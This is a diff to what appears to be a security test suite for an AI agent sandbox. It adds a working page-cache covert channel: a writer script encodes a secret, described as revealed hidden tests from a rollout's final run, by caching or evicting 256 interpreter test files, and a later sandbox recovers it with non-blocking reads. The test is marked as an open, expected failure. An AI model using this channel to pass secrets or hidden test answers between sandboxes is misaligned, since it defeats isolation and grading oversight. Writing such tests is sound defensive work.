@@ -242,3 +242,85 @@ def test_r28s_3_a_sandbox_never_sends_its_neighbours_imports_to_the_disk(tmp_pat
     assert read < 2**20, (
         f"imports read {read} bytes from the disk in {took:.2f} s beside the sandbox ({calm_took:.2f} s)"
     )
+
+
+# r28s-4: r26s-6's channel (the page cache of the shared read-only files) needs no neighbour
+# running at the same time: the page cache outlives the sandbox, its memory cgroup and its run,
+# so it is a store, not only a channel. A root sandbox's final run (its workspace holds the
+# revealed hidden tests) reads one of 256 files of the interpreter's own test package (files
+# no program of the machine reads) for each 0 bit of what it found and drops the next one's
+# pages (``POSIX_FADV_DONTNEED``) for each 1 bit, and ends. A sandbox started *after* it is
+# gone (a later rollout of the batch, of the next batch) asks each file with
+# ``preadv2(RWF_NOWAIT)`` (EAGAIN where the page is not cached; no read from the disk) and has
+# the secret whole. The bound the doc names for the class (no other rollout's code running
+# while a sandbox holds a final run's secret) does not close it.
+_STORE_FILES = """
+import os, sys
+top = os.path.join(os.path.dirname(os.__file__), "test")
+names = sorted(os.path.join(top, n) for n in os.listdir(top) if n.startswith("test_") and n.endswith(".py"))[:256]
+assert len(names) == 256, len(names)
+"""
+_STORE_WRITER = _STORE_FILES + textwrap.dedent(
+    """
+    secret = open("secret.txt", "rb").read()[:32]
+    bits = [(byte >> i) & 1 for byte in secret for i in range(8)]
+    for name, bit in zip(names, bits):
+        fd = os.open(name, os.O_RDONLY)
+        if bit:
+            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
+        else:
+            os.pread(fd, 4096, 0)
+        os.close(fd)
+    print("STORED")
+    """
+)
+_STORE_READER = _STORE_FILES + textwrap.dedent(
+    """
+    def cached(name):
+        fd = os.open(name, os.O_RDONLY)
+        try:
+            os.preadv(fd, [bytearray(4096)], 0, os.RWF_NOWAIT)
+            return 1
+        except BlockingIOError:
+            return 0
+        finally:
+            os.close(fd)
+
+    bits = [1 - cached(n) for n in names]
+    print("READ", bytes(sum(bits[8 * k + i] << i for i in range(8)) for k in range(32)).hex())
+    """
+)
+
+
+def _read_from_the_store(tmp_path, writer: bool) -> bool:
+    """Whether a root sandbox (``_STORE_READER``) started after a root sandbox that stored a fresh
+    secret (``_STORE_WRITER``, when ``writer``) ended printed that secret."""
+    import secrets
+    import sys
+
+    from agent.sandbox import run_command_full
+    from tests.security.test_attacks_round26_sandbox import _alone
+
+    secret = secrets.token_hex(16)
+    boxes = {}
+    for name, script in (("writer", _STORE_WRITER), ("reader", _STORE_READER)):
+        boxes[name] = tmp_path / name
+        boxes[name].mkdir()
+        (boxes[name] / "run.py").write_text(script)
+    (boxes["writer"] / "secret.txt").write_text(secret)
+    with _alone("lock-channel"):
+        if writer:
+            run = run_command_full([sys.executable, "run.py"], boxes["writer"], timeout_s=60, sandbox="bwrap")
+            assert "STORED" in run.output, run.output[-300:]
+        said = run_command_full([sys.executable, "run.py"], boxes["reader"], timeout_s=60, sandbox="bwrap").output
+    assert "READ" in said, said[-300:]
+    return secret.encode().hex() in said
+
+
+def test_r28s_4_control_a_sandbox_alone_reads_no_stored_secret(tmp_path):
+    assert not _read_from_the_store(tmp_path, False)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r28s-4 the page cache keeps a final run's secret for any later sandbox")
+def test_r28s_4_a_later_sandbox_never_reads_a_final_runs_secret(tmp_path):
+    assert not _read_from_the_store(tmp_path, True), "a sandbox started later read the ended sandbox's secret whole"
